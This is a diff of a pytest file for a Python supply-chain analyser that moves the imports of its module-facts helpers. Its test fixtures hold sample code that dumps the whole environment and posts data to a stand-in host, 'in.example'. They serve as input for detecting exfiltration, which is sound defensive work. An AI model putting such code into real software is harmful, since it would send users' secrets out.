@@ -8,8 +8,8 @@ import pytest
 
 from mlsupply.evidence.facets import CodeFact
 from mlsupply.evidence.linking import linked
+from mlsupply.evidence.module_facts import ModuleFacts, Neighbours, dotted_name
 from mlsupply.evidence.python import analyse
-from mlsupply.evidence.python.neighbours import Neighbours
 
 READS = "import os\ndef gather():\n    return dict(os.environ)\n"
 SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
@@ -20,9 +20,9 @@ def facts(files: dict[str, str], parsed: Iterable[str] = ()) -> list[CodeFact]:
     """Of a package `demo`; parsed: the files the first look chooses, all where none is named."""
     sources = {f"demo/{name}.py": text.encode() for name, text in files.items()}
     chosen = [f"demo/{name}.py" for name in parsed] or list(sources)
-    spare = {analyse.dotted_name(path)[0]: path for path in sources if path not in chosen}
+    spare = {dotted_name(path)[0]: path for path in sources if path not in chosen}
 
-    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[analyse.ModuleFacts]:
+    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
         return [analyse.module(path, sources[path], "", known) for path, known in todo]
 
     first = [analyse.module(path, sources[path]) for path in chosen]
@@ -92,7 +92,7 @@ def test_an_honest_client_needs_no_second_look() -> None:
         b"    def post(self, data):\n        return requests.post(self.url, json=data).json()\n",
     }
 
-    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[analyse.ModuleFacts]:
+    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
         todo = list(todo)
         looks.extend(todo)
         return [analyse.module(path, files[path], "", known) for path, known in todo]
